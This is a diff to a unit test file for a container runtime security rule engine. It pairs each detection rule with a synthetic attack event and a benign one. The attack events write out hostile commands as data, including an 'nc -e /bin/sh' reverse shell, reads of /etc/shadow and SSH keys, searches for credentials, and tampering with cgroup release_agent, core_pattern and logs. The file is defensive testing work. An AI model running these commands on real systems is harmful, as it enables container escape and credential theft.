@@ -1,9 +1,11 @@
 /**
  * The built-in rules on hand-made events: each fires on its attack and not on a benign
- * neighbour. (Unit level: the real-container tests per rule come with the analyzer's wiring.)
+ * neighbour. Unit level, for the edges a real run does not reach (host vs container,
+ * exceptions); test/rules/attacks.test.ts runs each rule's attack in a real container.
  */
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { loadRules } from '../../src/rules/index.js';
@@ -15,38 +17,67 @@ const host = { id: 'host', full_id: 'host', name: 'host' };
 const ev = (tracker: string, data: Record<string, unknown>, container: object = web): TrackerEvent => ({ tracker, instance: 1, time: 0, data: { pid: 42, ppid: 1, uid: 0, comm: 'x', container, ...data } });
 const exec = (comm: string, args: string[], extra: Record<string, unknown> = {}, container: object = web): TrackerEvent => ev('process', { type: 'exec', comm, exe: `/bin/${comm}`, args, ...extra }, container);
 const open = (comm: string, path: string, flags: string, container: object = web, fd = 3): TrackerEvent => ev('opensnoop', { comm, path, flags, fd }, container);
-const sys = (comm: string, syscall: string, container: object = web): TrackerEvent => ev('syscall', { comm, syscall, type: 'first_use' }, container);
+const sec = (comm: string, call: string, fields: Record<string, unknown> = {}, container: object = web): TrackerEvent => ev('secsnoop', { comm, call, ...fields }, container);
 const connect = (daddr: string, dport: number, container: object = web): TrackerEvent => ev('tcpconnect', { comm: 'curl', direction: 'connect', daddr, dport }, container);
 const mount = (comm: string, container: object = web): TrackerEvent => ev('mountsnoop', { comm, call: 'mount', source: 'tmpfs', target: '/mnt', fs_type: 'tmpfs' }, container);
 
+const start = (caps: string[], extra: Record<string, unknown> = {}): TrackerEvent => exec('sleep', ['sleep', '1'], { vpid: 1, caps, ...extra });
+const DEFAULT_CAPS = ['CAP_CHOWN', 'CAP_NET_RAW', 'CAP_SETUID'];
+
 const CASES: [string, TrackerEvent, TrackerEvent][] = [
-  ['insert_bpf', sys('loader', 'bpf'), sys('loader', 'openat')],
-  ['anti_debugging', sys('strace', 'ptrace'), sys('strace', 'wait4')],
-  ['shell_in_container', exec('sh', ['sh', '-i']), exec('sh', ['sh', '-c', 'true'], {}, host)],
+  ['insert_bpf', sec('loader', 'bpf', { cmd: 'BPF_PROG_LOAD', prog_type: 'BPF_PROG_TYPE_KPROBE' }), sec('loader', 'connect', { path: '/run/x.sock' })],
+  ['anti_debugging', sec('x', 'ptrace', { request: 'PTRACE_TRACEME' }), sec('x', 'ptrace', { request: 'PTRACE_ATTACH', target_pid: 7 }, host)],
+  ['ptrace_attach', sec('x', 'ptrace', { request: 'PTRACE_ATTACH', target_pid: 7 }), sec('gdb', 'ptrace', { request: 'PTRACE_ATTACH', target_pid: 7 }, host)],
+  ['shell_in_container', exec('sh', ['sh', '-i'], { tty: 'pts0' }), exec('sh', ['sh', '-c', 'true'], { tty: '' })],
   ['sensitive_file_read', open('cat', '/etc/shadow', 'O_RDONLY'), open('sudo', '/etc/shadow', 'O_RDONLY')],
   ['write_below_etc', open('sh', '/etc/crontab', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cat', '/etc/crontab', 'O_RDONLY')],
   ['write_below_binary_dir', open('cp', '/usr/bin/ls', 'O_WRONLY|O_TRUNC'), open('apt-get', '/usr/bin/ls', 'O_WRONLY|O_TRUNC')],
   ['release_agent_write', open('sh', '/sys/fs/cgroup/rdma/release_agent', 'O_WRONLY|O_TRUNC'), open('cat', '/sys/fs/cgroup/rdma/notify_on_release', 'O_RDONLY')],
-  ['kernel_module_load', sys('insmod', 'finit_module'), sys('lsmod', 'read')],
+  ['kernel_module_load', sec('insmod', 'finit_module', { fd: 3 }), sec('modinfo', 'memfd_create', { name: 'x' })],
   ['mount_in_container', mount('mount'), mount('runc:[2:INIT]')],
-  ['namespace_change_in_container', sys('nsenter', 'setns'), sys('runc:[1:CHILD]', 'setns')],
+  ['namespace_change_in_container', sec('nsenter', 'setns', { nstype: 'CLONE_NEWNET' }), sec('runc:[1:CHILD]', 'setns', { nstype: 'CLONE_NEWNET' })],
   ['memfd_exec', exec('x', ['x'], { exe: '/memfd:payload (deleted)' }), exec('x', ['x'], { exe: '/usr/bin/x' })],
   ['dev_shm_exec', exec('x', ['x'], { exe: '/dev/shm/x' }), exec('x', ['x'], { exe: '/tmp/x' })],
   ['netcat_remote_exec', exec('nc', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']), exec('nc', ['nc', '-z', '10.0.0.1', '80'])],
-  ['package_manager_in_container', exec('apk', ['apk', 'add', 'curl']), exec('apk', ['apk', 'add', 'curl'], {}, host)],
+  ['package_manager_in_container', exec('apk', ['apk', 'add', 'curl']), exec('apk', ['apk', 'info'])],
   ['network_tool_in_container', exec('nmap', ['nmap', '10.0.0.0/24']), exec('nmap', ['nmap', '10.0.0.0/24'], {}, host)],
-  ['runtime_socket_opened', open('curl', '/var/run/docker.sock', 'O_RDWR'), open('curl', '/var/run/docker.sock', 'O_RDWR', host)],
+  ['runtime_socket_access', sec('curl', 'connect', { family: 'AF_UNIX', path: '/var/run/docker.sock' }), sec('curl', 'connect', { family: 'AF_UNIX', path: '/var/run/docker.sock' }, host)],
   ['cloud_metadata_contacted', connect('169.254.169.254', 80), connect('10.0.0.1', 80)],
   ['miner_pool_port', connect('203.0.113.9', 3333), connect('203.0.113.9', 443)],
   ['shell_history_cleared', open('sh', '/root/.bash_history', 'O_WRONLY|O_CREAT|O_TRUNC'), open('sh', '/root/.bash_history', 'O_WRONLY|O_APPEND')],
   ['ssh_key_search', exec('find', ['find', '/', '-name', 'id_rsa']), exec('find', ['find', '/', '-name', '*.log'])],
   ['ld_preload_tamper', open('sh', '/etc/ld.so.preload', 'O_WRONLY|O_CREAT'), open('ld.so', '/etc/ld.so.preload', 'O_RDONLY')],
   ['private_key_read', open('cat', '/root/.ssh/id_ed25519', 'O_RDONLY'), open('ssh', '/root/.ssh/id_ed25519', 'O_RDONLY')],
+  ['container_drift', exec('x', ['x'], { exe: '/tmp/x', upper_layer: true }), exec('x', ['x'], { exe: '/tmp/x', upper_layer: true }, host)],
+  ['packet_socket_in_container', sec('x', 'socket', { family: 'AF_PACKET', type: 'SOCK_RAW' }), sec('ping', 'socket', { family: 'AF_INET', type: 'SOCK_RAW' })],
+  ['reverse_shell', exec('sh', ['sh', '-i'], { stdin: 'inet', stdout: 'inet' }), exec('sh', ['sh', '-i'], { stdin: 'unix', stdout: 'unix' })],
+  ['stdio_socket_redirect', sec('x', 'dup2', { family: 'AF_INET6', type: 'SOCK_STREAM', oldfd: 3, newfd: 0 }), sec('ping', 'dup2', { family: 'AF_INET', type: 'SOCK_DGRAM', oldfd: 3, newfd: 0 })],
+  ['privileged_container_started', start(DEFAULT_CAPS, { container: { ...web, privileged: true } }), start(DEFAULT_CAPS)],
+  ['excessively_capable_container', start([...DEFAULT_CAPS, 'CAP_SYS_MODULE']), start([...DEFAULT_CAPS, 'CAP_SYS_MODULE'], { vpid: 7 })],
+  ['setuid_bit_set', sec('chmod', 'fchmodat', { path: '/tmp/x', mode: '4755' }), sec('dpkg', 'fchmodat', { path: '/usr/bin/sudo', mode: '4755' }, host)],
+  ['userfaultfd_in_container', sec('x', 'userfaultfd', { flags: 'O_CLOEXEC' }), sec('x', 'userfaultfd', { flags: 'O_CLOEXEC' }, host)],
+  ['kexec_load', sec('kexec', 'kexec_file_load'), sec('kexec', 'memfd_create', { name: 'kernel' })],
+  ['user_management_in_container', exec('useradd', ['useradd', 'eve']), exec('useradd', ['useradd', '--help'])],
+  ['remote_copy_tool_in_container', exec('curl', ['curl', '-o', '/tmp/x', 'http://x']), exec('curl', ['curl', '--version'])],
+  ['cluster_admin_tool_in_container', exec('kubectl', ['kubectl', 'get', 'secrets']), exec('kubectl', ['kubectl', 'get', 'secrets'], {}, host)],
+  ['proc_environ_read', open('cat', '/proc/1/environ', 'O_RDONLY'), open('cat', '/proc/self/environ', 'O_RDONLY')],
+  ['kernel_hook_write', open('sh', '/proc/sys/kernel/core_pattern', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cat', '/proc/sys/kernel/core_pattern', 'O_RDONLY')],
+  ['raw_memory_device_opened', open('dd', '/dev/mem', 'O_RDONLY'), open('dd', '/dev/zero', 'O_RDONLY')],
+  ['log_cleared', open('sh', '/var/log/auth.log', 'O_WRONLY|O_CREAT|O_TRUNC'), open('logrotate', '/var/log/auth.log', 'O_WRONLY|O_TRUNC')],
+  ['shell_config_modified', open('sh', '/root/.bashrc', 'O_WRONLY|O_APPEND|O_CREAT'), open('bash', '/root/.bashrc', 'O_RDONLY')],
+  ['cron_modified', open('sh', '/etc/cron.d/job', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cron', '/etc/cron.d/job', 'O_RDONLY')],
+  ['path_traversal_read', open('php-fpm', '/var/www/html/../../../etc/passwd', 'O_RDONLY'), open('php-fpm', '/var/www/html/../lib/a.php', 'O_RDONLY')],
+  ['credential_search', exec('grep', ['grep', '-ri', 'password', '/etc']), exec('grep', ['grep', '-i', 'error', '/var/log/app.log'])],
+  ['pam_config_modified', open('sh', '/etc/pam.d/sshd', 'O_WRONLY|O_TRUNC'), open('dpkg', '/etc/pam.d/sshd', 'O_WRONLY|O_TRUNC', host)],
+  ['dev_file_created', open('sh', '/dev/.x', 'O_WRONLY|O_CREAT|O_TRUNC'), open('sh', '/dev/null', 'O_WRONLY|O_CREAT|O_TRUNC')],
 ];
 
-test('every built-in rule has a case here', () => {
+test('every built-in rule has a case here and a row in docs/rules.md', () => {
   const ids = loadRules([]).rules().map((r) => r.id).sort();
   assert.deepEqual(CASES.map((c) => c[0]).sort(), ids);
+  const section = readFileSync(join(repoRoot, 'docs/rules.md'), 'utf8').split('## Built-in rules')[1]!.split('\n## ')[0]!;
+  const documented = [...section.matchAll(/^\| `(\w+)` \|/gm)].map((m) => m[1]).sort();
+  assert.deepEqual(documented, ids);
 });
 
 for (const [id, attack, benign] of CASES) {
@@ -62,7 +93,7 @@ test('eunomia rules list and check', () => {
   const list = spawnSync(process.execPath, [bin, 'rules', 'list'], { encoding: 'utf8' });
   assert.equal(list.status, 0);
   assert.match(list.stdout, /^RULE\s+PRIORITY\s+ENABLED\s+EVENTS\s+TAGS\s+NAME\n/);
-  assert.match(list.stdout, /\ninsert_bpf\s+critical\s+on\s+syscall\s/);
+  assert.match(list.stdout, /\ninsert_bpf\s+critical\s+on\s+secsnoop\s/);
   const bad = spawnSync(process.execPath, [bin, 'rules', 'check', join(repoRoot, 'test/fixtures/bad-rule.yaml')], { encoding: 'utf8' });
   assert.equal(bad.status, 1);
   assert.equal(bad.stderr.trim(), `eunomia: ${join(repoRoot, 'test/fixtures/bad-rule.yaml')}:3:19: rule "x": unknown operator "startwith" after "comm" — did you mean "startswith"?`);
